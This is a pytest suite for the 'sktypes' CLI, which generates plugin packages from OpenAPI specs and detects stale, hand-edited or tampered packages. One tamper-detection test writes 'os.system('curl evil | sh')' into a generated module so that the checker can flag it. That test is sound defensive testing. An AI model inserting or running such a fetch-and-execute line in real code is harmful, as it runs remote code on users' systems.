"""The generation workflow: link records, pairing changed files with packages, the CLI fit."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from sktypes.check import run_check
from sktypes.openapi import FilterError, load_openapi, select_operations
from sktypes_codegen import generate_plugin
from sktypes_codegen._link import LINK_FILE, read_link
from tests.workflow_util import make_repo

ROOT = Path(__file__).resolve().parents[1]


def sk(*args: str) -> Result:
    from sktypes.cli import cli

    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    make_repo(tmp_path)
    for version in ("v1", "v2"):
        result = sk(
            "generate", f"api/{version}/openapi.yaml", "-o", "plugins", "--name", f"pets_{version}"
        )
        assert result.exit_code == 0, result.output
    return tmp_path


# --- the link record ---------------------------------------------------------------------


def test_the_link_records_spec_inputs_and_options_relative_to_the_package(repo: Path) -> None:
    record = json.loads((repo / "plugins" / "pets_v1" / LINK_FILE).read_text())
    assert record["spec"] == "../../api/v1/openapi.yaml"
    assert sorted(record["inputs"]) == [
        "../../api/v1/openapi.yaml",
        "../../api/v1/schemas/common.yaml",
        "../../api/v1/schemas/pet.yaml",
    ]
    assert all(len(d) == 64 for d in record["inputs"].values())
    assert record["name"] == "pets_v1"
    assert record["options"] == {
        "layout": "single",
        "sync": False,
        "validate": True,
        "line_length": 88,
        "include": [],
        "exclude": [],
    }


def test_generating_twice_gives_the_same_bytes_link_included(repo: Path) -> None:
    before = (repo / "plugins" / "pets_v1" / LINK_FILE).read_bytes()
    assert (
        sk("generate", "api/v1/openapi.yaml", "-o", "plugins", "--name", "pets_v1").exit_code == 0
    )
    assert (repo / "plugins" / "pets_v1" / LINK_FILE).read_bytes() == before


def test_the_link_survives_moving_the_repository(
    repo: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    moved = tmp_path_factory.mktemp("moved") / "repo"
    repo.rename(moved)
    monkeypatch.chdir(moved)
    report = run_check(["."])
    assert report.findings == []
    assert report.checked["package"] == 2


# --- pairing changed files with packages ---------------------------------------------------


def test_clean_repository_passes_with_a_summary(repo: Path) -> None:
    result = sk("check", ".")
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert result.stderr.strip() == "sktypes check: 2 packages, 2 specs; 0 findings"


def test_specs_of_the_same_file_name_are_paired_by_path_not_name(repo: Path) -> None:
    assert run_check(["api/v2/openapi.yaml"]).findings == []
    assert run_check(["plugins/pets_v2"]).findings == []


def test_a_spec_only_change_names_the_package_generated_from_it(repo: Path) -> None:
    spec = repo / "api" / "v2" / "openapi.yaml"
    spec.write_text(spec.read_text().replace("listPets", "listAllPets"))
    result = sk("check", "api/v2/openapi.yaml")
    assert result.exit_code == 1
    (line,) = result.stdout.splitlines()
    assert line.startswith("api/v2/openapi.yaml: changed since package plugins/pets_v2 was")
    assert "sktypes generate api/v2/openapi.yaml -o plugins --name pets_v2" in line
    assert "pets_v1" not in result.stdout


def test_a_change_in_a_refd_file_names_that_file_and_the_package(repo: Path) -> None:
    common = repo / "api" / "v1" / "schemas" / "common.yaml"
    common.write_text(common.read_text().replace("string", "integer"))
    result = sk("check", "api/v1/schemas/common.yaml")
    assert result.exit_code == 1
    (line,) = result.stdout.splitlines()
    assert line.startswith("api/v1/schemas/common.yaml: changed since package plugins/pets_v1")


def test_a_hand_edit_and_a_stray_module_are_found(repo: Path) -> None:
    plugin = repo / "plugins" / "pets_v1" / "plugin.py"
    original = plugin.read_text()
    plugin.write_text(original + "# tweak\n")
    (repo / "plugins" / "pets_v1" / "extra.py").write_text("x = 1\n")
    result = sk("check", "plugins/pets_v1/plugin.py")
    assert result.exit_code == 1
    # found by the recorded digests, without generating: no line is known (tests/test_check_fast)
    assert result.stdout.splitlines() == [
        "plugins/pets_v1/plugin.py: differs from a fresh generation: regenerate",
        "plugins/pets_v1/extra.py: not generated: remove it or regenerate",
    ]


def test_check_dir_finds_a_tampered_package_and_an_invalid_spec(repo: Path) -> None:
    """Issue 13 item 16: ``sktypes check DIR`` exited 0 with a tampered package inside."""
    models = repo / "plugins" / "pets_v2" / "models.py"
    original = models.read_text()
    models.write_text(original + "import os\nos.system('curl evil | sh')\n")
    (repo / "api" / "broken.yaml").write_text("openapi: 3.0.3\ninfo: {title: x}\npaths: 12\n")
    for target in (".", "api", "plugins"):
        result = sk("check", target)
        assert result.exit_code == 1, (target, result.output)
    assert "plugins/pets_v2/models.py: differs" in sk("check", ".").stdout
    assert "api/broken.yaml" in sk("check", "api").stdout


def test_a_deleted_generated_file_and_a_missing_input_are_findings(repo: Path) -> None:
    (repo / "plugins" / "pets_v2" / "models.py").unlink()
    assert "models.py: missing" in sk("check", "plugins").stdout
    (repo / "api" / "v1" / "schemas" / "common.yaml").unlink()
    out = sk("check", "plugins/pets_v1").stdout
    assert "api/v1/schemas/common.yaml: missing since package plugins/pets_v1" in out


def test_a_malformed_link_record_is_a_finding_not_a_traceback(repo: Path) -> None:
    (repo / "plugins" / "pets_v1" / LINK_FILE).write_text("{not json")
    result = sk("check", "plugins/pets_v1")
    assert result.exit_code == 1
    assert "plugins/pets_v1/sktypes.json: not valid JSON" in result.stdout


# --- exit codes and one-line errors ---------------------------------------------------------


def test_a_missing_path_is_exit_2_with_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = sk("check", "missing.yaml")
    assert result.exit_code == 2
    assert result.stderr == "sktypes: error: missing.yaml: no such file or directory\n"
    assert sk("generate", "missing.yaml", "-o", "out").exit_code == 2


def test_a_misspelt_openapi_key_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("api.yaml").write_text("opneapi: 3.0.3\ninfo: {title: x, version: '1'}\npaths: {}\n")
    result = sk("check", "api.yaml")
    assert result.exit_code == 1
    assert (
        result.stdout
        == "api.yaml:1:1: /opneapi: unknown top-level key 'opneapi': did you mean 'openapi'?\n"
    )
    Path("ci.yaml").write_text("jobs: {test: {runs-on: ubuntu}}\n")  # not a spec: not a finding
    assert sk("check", "ci.yaml").exit_code == 0


def test_quiet_drops_the_summary_and_verbose_lists_what_was_checked(repo: Path) -> None:
    assert sk("check", "-q", ".").stderr == ""
    verbose = sk("check", "-v", "api/v1").stderr.splitlines()
    assert "checked spec api/v1/openapi.yaml" in verbose
    assert "checked package plugins/pets_v1" in verbose


# --- names, line length, filters ----------------------------------------------------------


@pytest.mark.parametrize("name", ["os", "json", "httpx", "pydantic", "sktypes"])
def test_package_names_that_shadow_modules_are_refused(repo: Path, name: str) -> None:
    result = sk("generate", "api/v2/openapi.yaml", "-o", "plugins", "--name", name)
    assert result.exit_code == 2
    assert f"package name {name!r} shadows" in result.stderr
    assert not (repo / "plugins" / name).exists()


def test_line_length_comes_from_the_repositorys_ruff_setting(repo: Path) -> None:
    (repo / "pyproject.toml").write_text("[tool.ruff]\nline-length = 120\n")
    assert (
        sk("generate", "api/v1/openapi.yaml", "-o", "plugins", "--name", "pets_v1").exit_code == 0
    )
    assert read_link(repo / "plugins" / "pets_v1").options.line_length == 120  # type: ignore[union-attr]
    assert (
        sk(
            "generate",
            "api/v1/openapi.yaml",
            "-o",
            "plugins",
            "--name",
            "pets_v1",
            "--line-length",
            "79",
        ).exit_code
        == 0
    )
    assert read_link(repo / "plugins" / "pets_v1").options.line_length == 79  # type: ignore[union-attr]
    assert run_check(["."]).findings == []
    longest = max(
        len(line) for line in (repo / "plugins" / "pets_v1" / "plugin.py").read_text().splitlines()
    )
    assert longest <= 79


def test_operation_filters_for_generate_are_recorded_and_rechecked(repo: Path) -> None:
    result = sk(
        "generate",
        "api/v1/openapi.yaml",
        "-o",
        "plugins",
        "--name",
        "only_pets",
        "--include",
        "tag:pets",
    )
    assert result.exit_code == 0, result.output
    plugin = (repo / "plugins" / "only_pets" / "plugin.py").read_text()
    assert "def get_pet" in plugin and "def list_stores" not in plugin
    assert read_link(repo / "plugins" / "only_pets").options.include == ("tag:pets",)  # type: ignore[union-attr]
    assert run_check(["plugins/only_pets"]).findings == []


def test_a_filter_that_matches_nothing_is_an_error(repo: Path) -> None:
    result = sk("generate", "api/v1/openapi.yaml", "-o", "plugins", "--include", "tag:petz")
    assert result.exit_code == 2
    assert result.stderr == (
        "sktypes: error: api/v1/openapi.yaml: --include 'tag:petz' matches no operation\n"
    )


@pytest.mark.parametrize(
    ("include", "exclude", "kept"),
    [
        (["tag:pets"], [], ["getPet"]),
        (["stores"], [], ["listStores"]),
        (["id:get*"], [], ["getPet"]),
        (["/pets/*"], [], ["getPet"]),
        (["GET /stores"], [], ["listStores"]),
        (["path:/*"], ["listStores"], ["getPet"]),
        ([], ["tag:pets"], ["listStores"]),
    ],
)
def test_filters_by_tag_operation_id_and_path_glob(
    repo: Path, include: list[str], exclude: list[str], kept: list[str]
) -> None:
    plugin = load_openapi("api/v1/openapi.yaml", include=include, exclude=exclude)
    assert [op.operation_id for op in plugin.operations] == kept
    assert [v.name for v in plugin.views] == kept
    whole = select_operations(load_openapi("api/v1/openapi.yaml"), include, exclude)
    assert (whole.operations, whole.views) == (plugin.operations, plugin.views)
    # only the selected operations were built: their definitions, not every operation's
    assert plugin.definitions.items() <= whole.definitions.items()
    used = {name for v in plugin.views for name in _defs_of(v)}
    assert set(plugin.definitions) == used


def _defs_of(view: Any) -> set[str]:
    schemas = [p.schema for p in view.parameters] + [view.return_parameter.schema]
    return {name for s in schemas if s is not None for name in s.value.get("$defs", {})}


def test_filters_name_unmatched_patterns(repo: Path) -> None:
    with pytest.raises(FilterError, match="--exclude 'POST /pets' matches no operation"):
        load_openapi("api/v1/openapi.yaml", exclude=["POST /pets"])


def test_manual_takes_the_same_filters_for_specs_and_python_targets(repo: Path) -> None:
    out = sk("manual", "api/v1/openapi.yaml", "--exclude", "tag:stores", "-f", "openai")
    assert out.exit_code == 0, out.output
    assert [t["function"]["name"] for t in json.loads(out.stdout)] == ["Pets-getPet"]
    example = str(ROOT / "examples" / "date_weather.py")
    out = sk("manual", example, "--include", "*GetDate*")
    assert [t["name"] for t in json.loads(out.stdout)] == ["DatePluginSimpleComplex.GetDate1"]
    bad = sk("manual", example, "--include", "tag:none")
    assert bad.exit_code == 2 and "matches no operation" in bad.stderr


# --- [tool.sktypes] -----------------------------------------------------------------------

PYPROJECT = """\
[tool.sktypes]
line-length = 100

[[tool.sktypes.generate]]
spec = "api/v1/openapi.yaml"
output = "plugins"
name = "pets_v1"
sync = true
include = ["tag:pets"]

[[tool.sktypes.generate]]
spec = "api/v2/openapi.yaml"
output = "plugins"
name = "pets_v2"
"""


def test_generate_without_arguments_regenerates_every_configured_target(repo: Path) -> None:
    (repo / "pyproject.toml").write_text(PYPROJECT)
    result = sk("generate")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["wrote plugins/pets_v1", "wrote plugins/pets_v2"]
    link = read_link(repo / "plugins" / "pets_v1")
    assert link is not None
    assert (link.options.sync, link.options.include, link.options.line_length) == (
        True,
        ("tag:pets",),
        100,
    )
    assert sk("generate", "--check").exit_code == 0
    assert sk("check").exit_code == 0


def test_check_knows_the_configured_targets(repo: Path) -> None:
    (repo / "pyproject.toml").write_text(PYPROJECT.replace("pets_v2", "pets_v3"))
    result = sk("check")
    assert result.exit_code == 1
    assert "plugins/pets_v3: configured in [tool.sktypes] but not generated yet" in result.stdout
    spec_only = sk("check", "api/v2/openapi.yaml")
    assert "pets_v3: configured in [tool.sktypes]" in spec_only.stdout
    config_only = sk("check", "pyproject.toml")  # pre-commit passes an edited pyproject.toml
    assert config_only.exit_code == 1
    assert "pets_v3: configured in [tool.sktypes]" in config_only.stdout


def test_a_bad_tool_sktypes_table_is_exit_2_naming_the_entry(repo: Path) -> None:
    (repo / "pyproject.toml").write_text(
        '[[tool.sktypes.generate]]\nspec = "a.yaml"\noutptu = "x"\n'
    )
    result = sk("generate")
    assert result.exit_code == 2
    assert "pyproject.toml: tool.sktypes.generate[0]: unknown key 'outptu'" in result.stderr


def test_library_generation_writes_the_link_too(tmp_path: Path) -> None:
    spec = ROOT / "schemas" / "examples" / "date_plugin.openapi.yaml"
    package = generate_plugin(spec, tmp_path / "out", name="date_lib")
    link = read_link(package)
    assert link is not None and link.spec == spec.resolve()
    assert link.options.line_length == 100


@pytest.mark.parametrize(
    "args",
    [
        ["check", "nope.yaml"],
        ["generate", "nope.yaml", "-o", "out"],
        ["manual", "nope.yaml"],
        ["stubs", "nope.json"],
        ["hydrate", "datetime:date", "nope.txt"],
        ["plan", "check", "nope.plan.json", "--views", "nope.yaml"],
        ["plan", "run", "nope.plan.json", "--plugins", "nope.yaml"],
    ],
)
def test_every_command_exits_2_with_one_line_on_a_missing_path(
    args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = sk(*args)
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert line.startswith("sktypes: error: nope.")
    assert not list(tmp_path.iterdir())  # nothing written
